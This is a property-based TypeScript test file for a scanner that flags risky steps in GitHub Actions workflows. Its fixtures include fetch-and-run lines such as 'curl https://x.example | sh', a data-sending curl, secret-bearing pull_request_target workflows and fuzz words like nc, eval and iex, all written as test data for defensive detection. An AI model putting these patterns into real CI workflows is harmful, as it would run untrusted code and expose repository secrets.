import fc from "fast-check";
import { expect, test } from "vitest";
import { githubWorkflow } from "../../../../rules/capabilities/github-workflow.ts";
import { diffOf } from "../changes.ts";

const PATH = ".github/workflows/x.yml";

function workflowOf(steps: readonly unknown[], indent = 0): string {
  const on = ["pull_request_target", "push"];
  const jobs = { a: { permissions: {}, env: { T: "${{ secrets.T }}" }, steps } };
  return JSON.stringify({ on, jobs }, null, indent);
}

const word = fc.constantFrom(
  ...["curl", "https://x.example/a", "-d", "-o", "a.sh", "|", "sh", "bash", "-c", "base64", "eval"],
  ...[
    '"',
    "'",
    "`",
    "$(",
    ")",
    "<(",
    "<<E",
    "E",
    "\n",
    "\\\n",
    ";",
    "&&",
    "${{ github.head_ref }}",
  ],
  ...["$T", "T=$T", "git", "checkout", "FETCH_HEAD", "pull/1/head", "gh", "pr", "env", "nc", "iex"],
);

const script = fc.array(word, { maxLength: 25 }).map((words) => words.join(" "));

const action = fc.record(
  {
    uses: fc.constantFrom("actions/checkout@v4", "./x", "o/r@0a1b2c3", "azure/login@v1", "@", "\\"),
    with: fc.dictionary(
      fc.constantFrom("ref", "token", "private-key", "client-id", "run-id", "script"),
      fc.constantFrom("${{ github.head_ref }}", "${{ secrets.K }}", "${{", "false", "", "1"),
    ),
    if: fc.constantFrom("always()", "github.event_name == 'push'", "${{ a }} b", ""),
  },
  { requiredKeys: ["uses"] },
);

const steps = fc.array(
  fc.oneof(
    script.map((run) => ({ run })),
    action,
  ),
  { maxLength: 4 },
);

test("any steps are read, each capability of a listed kind and level, at lines of the file", () => {
  fc.assert(
    fc.property(steps, (items) => {
      const text = workflowOf(items, 1);
      const reading = githubWorkflow.read(PATH, new TextEncoder().encode(text));
      expect(reading.understood).toBe(true);
      if (!reading.understood) return;
      for (const { kind, level, line, endLine = line } of reading.capabilities) {
        const levels = githubWorkflow.kinds[kind];
        expect(levels).toBeDefined();
        if (level !== undefined && level !== "default") expect(levels).toContain(level);
        expect(endLine).toBeGreaterThanOrEqual(line);
        expect(endLine).toBeLessThanOrEqual(text.split("\n").length);
      }
    }),
  );
});

test("steps that are only laid out in another way grant nothing new", () => {
  fc.assert(
    fc.property(steps, (items) => {
      expect(diffOf({ [PATH]: workflowOf(items) }, { [PATH]: workflowOf(items, 3) })).toEqual([]);
    }),
  );
});

test.each([
  ["other white space", "curl   https://x.example  |  sh"],
  ["a comment", "# first\ncurl https://x.example | sh # then"],
  ["a continued line", "curl \\\n  https://x.example |\n  sh"],
  ["quotes", '\'curl\' "https://x.example" | "sh"'],
  ["a command before it", "set -e\ncurl https://x.example | sh"],
])("%s around a script from elsewhere is nothing new", (_what, run) => {
  const before = workflowOf([{ run: "curl https://x.example | sh" }]);
  const kinds = diffOf({ [PATH]: before }, { [PATH]: workflowOf([{ run }]) }).map(
    ({ kind }) => kind,
  );
  expect(kinds).not.toContain("github.step.remote-script");
});

test.each([
  ["github.step.action", { uses: "o/r@v1" }],
  ["github.step.untrusted-code", { run: "gh pr checkout 7" }],
  ["github.step.minted-token", { uses: "o/r@v1", with: { "private-key": "${{ secrets.K }}" } }],
  ["github.step.persisted-credentials", { uses: "actions/checkout@v4" }],
  ["github.step.remote-script", { run: "curl https://x.example | sh" }],
  ["github.step.sent-data", { run: "curl -d a https://x.example" }],
  ["github.step.unsecure-commands", { run: "a", env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: true } }],
])("a step more with %s is seen in any job", (kind, step) => {
  fc.assert(
    fc.property(steps, fc.nat(), (items, at) => {
      const place = at % (items.length + 1);
      const head = [...items.slice(0, place), step, ...items.slice(place)];
      const before = diffOf({}, { [PATH]: workflowOf(items) }).filter((fact) => fact.kind === kind);
      const after = diffOf({}, { [PATH]: workflowOf(head) }).filter((fact) => fact.kind === kind);
      expect(after).toHaveLength(before.length + 1);
    }),
    { numRuns: 20 },
  );
});
